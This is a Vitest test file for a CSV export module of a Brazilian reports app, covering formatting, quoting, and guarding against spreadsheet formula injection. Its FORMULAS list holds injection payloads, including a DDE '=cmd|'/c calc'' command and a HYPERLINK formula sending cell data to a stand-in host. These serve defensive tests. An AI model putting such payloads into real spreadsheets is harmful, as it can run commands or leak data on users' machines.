import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import type { ExportHeader } from "../../../src/core/export-header.ts";
import { toCsv } from "../../../src/data/export/csv.ts";
import { extractCsv, modelCsv } from "../../../src/data/export/extract-csv.ts";
import { guardFormula, isFormula, unguardFormula } from "../../../src/data/export/formula.ts";
import { tableCsv } from "../../../src/data/export/table-csv.ts";
import { APOIOS } from "../../../src/data/contracts/apoios.ts";
import { DENUNCIAS } from "../../../src/data/contracts/denuncias.ts";
import { sharedPath } from "../../shared.ts";

const header: ExportHeader = {
  titulo: "Denúncias por mês",
  fontes: ["Ouvidoria, 2026"],
  filtros: ["Médio", "canal presencial"],
  dataReferencia: "2026-10-30",
  demonstracao: false,
};

const FORMULAS = [
  "=1+1",
  '=HYPERLINK("https://example.invalid?"&A1,"clique")',
  "=cmd|'/c calc'!A1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  " =1+1",
  "\u00a0=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠A1",
  '";=1+1',
  "|calc",
  "%0A=1",
  "+55 65 9999",
];
const NUMBERS = ["-5,00", "-1.234,56", "+5", "-7", "-15.194"];

describe("toCsv", () => {
  it("opens with BOM and comment lines that name title, sources, filters and date", () => {
    expect(toCsv(header, [{ titulo: "Mês" }, { titulo: "Casos", unidade: "denúncias" }], [["2026-10", 12]])).toBe(
      "\ufeff# Denúncias por mês\r\n# Fonte: Ouvidoria, 2026\r\n# Filtros: Médio · canal presencial\r\n" +
        "# Data de referência: 2026-10-30\r\nMês;Casos (denúncias)\r\n2026-10;12\r\n",
    );
  });

  it("puts the demonstration mark first", () => {
    const [first] = toCsv({ ...header, demonstracao: true }, [], []).split("\r\n");
    expect(first).toMatch(/^\ufeff# DADOS DE DEMONSTRAÇÃO: /);
  });

  it("says when there is no filter", () => {
    expect(toCsv({ ...header, filtros: [] }, [], [])).toContain("# Filtros: sem filtros\r\n");
  });

  it("writes numbers with decimal comma, whole and without exponent", () => {
    const rows = toCsv(header, [{ titulo: "v" }], [[1234.5], [-0.25], [1e21], [1.5e-7], [0]]).split("\r\n").slice(5, -1);
    expect(rows).toEqual(["1234,5", "-0,25", "1000000000000000000000", "0,00000015", "0"]);
  });

  it("writes a missing value as a word and never as zero", () => {
    expect(toCsv(header, [{ titulo: "a" }, { titulo: "b" }], [[null, 0]])).toMatch(/\r\nsem dado;0\r\n$/);
    expect(toCsv(header, [{ titulo: "a" }, { titulo: "b" }], [[null, 0]], "")).toMatch(/\r\n;0\r\n$/);
  });

  it("refuses a figure that is no figure", () => {
    expect(() => toCsv(header, [{ titulo: "a" }], [[Number.NaN]])).toThrow(RangeError);
  });

  it("quotes text with a delimiter of any kind, quotes or line breaks, and doubles the quotes", () => {
    const rows = toCsv(header, [{ titulo: "t" }], [["a;b"], ["a,b"], ["a\tb"], ['diz "oi"'], ["uma\nduas"]]);
    expect(rows.split("\r\n").slice(5, -1)).toEqual(['"a;b"', '"a,b"', '"a\tb"', '"diz ""oi"""', '"uma\nduas"']);
  });

  it("keeps a comment on its line and disarms a formula a delimiter inside it would start", () => {
    const csv = toCsv({ ...header, filtros: ['busca ";=1+1"', "a\r\n=2+2"] }, [], []);
    expect(csv).toContain(`# Filtros: busca ";'=1+1" · a =2+2\r\n`);
  });
});

describe("formulas", () => {
  it.each(FORMULAS)("%j is exported behind an apostrophe", (text) => {
    expect(guardFormula(text)).toBe(`'${text}`);
  });

  it.each(NUMBERS)("%s stays a number", (text) => {
    expect(guardFormula(text)).toBe(text);
  });

  it.each([...FORMULAS, ...NUMBERS, "Cuiabá", "", "'", "''=1", "'-5,00", "d'Oeste"])("%j comes back unchanged", (text) => {
    expect(unguardFormula(guardFormula(text))).toBe(text);
  });

  it("leaves ordinary text alone, an apostrophe included", () => {
    expect(isFormula("Mirassol d'Oeste")).toBe(false);
    expect(unguardFormula("'aspas'")).toBe("'aspas'");
  });

  it("guards titles of columns too", () => {
    expect(toCsv(header, [{ titulo: "=1+1" }], [])).toMatch(/\r\n'=1\+1\r\n$/);
  });

  const payloads = sharedPath("robustez/payloads.json");
  it.skipIf(payloads === null)("holds for every formula of the reading material", () => {
    const { formula, formula_must_stay_number: numbers } = JSON.parse(readFileSync(payloads ?? "", "utf8")) as {
      formula: string[];
      formula_must_stay_number: string[];
    };
    expect(formula.filter((text) => !guardFormula(text).startsWith("'"))).toEqual([]);
    expect(numbers.filter((text) => guardFormula(text) !== text)).toEqual([]);
  });
});

describe("tableCsv", () => {
  it("writes each kind of absence in its own word", () => {
    const csv = tableCsv(
      header,
      [
        { titulo: "Município", valor: ({ nome }: { nome: string; v: number | null }) => nome },
        { titulo: "Valor", unidade: "%", valor: ({ v }) => (v === null ? { ausencia: "oculto" } : { valor: v }) },
      ],
      [
        { nome: "Sinop", v: 12.25 },
        { nome: "Sorriso", v: null },
      ],
    );
    expect(csv).toMatch(/\r\nMunicípio;Valor \(%\)\r\nSinop;12,25\r\nSorriso;oculto para proteger pessoas\r\n$/);
  });
});

describe("extractCsv", () => {
  it("writes contract columns in order, blank for no value, sim and não", () => {
    const csv = extractCsv({ ...header, demonstracao: false }, DENUNCIAS, [
      { protocolo: "P-1", codigo_ibge: 5103403, canal: "presencial", tema: "outro", situacao: "registrada", anonima: true },
    ]);
    const [names, row] = csv.trimEnd().split("\r\n").slice(-2);
    expect(names).toBe(DENUNCIAS.columns.map(({ name }) => name).join(";"));
    expect(row).toBe("P-1;;5103403;presencial;outro;registrada;sim;;;;;;;;;;;");
  });

  it("the model file is the header alone", () => {
    expect(modelCsv(APOIOS)).toBe(
      "\ufeffapoio;codigo_ibge;data;estrategia;eixo;tema;modalidade;origem;data_solicitacao;participantes;situacao\r\n",
    );
  });
});
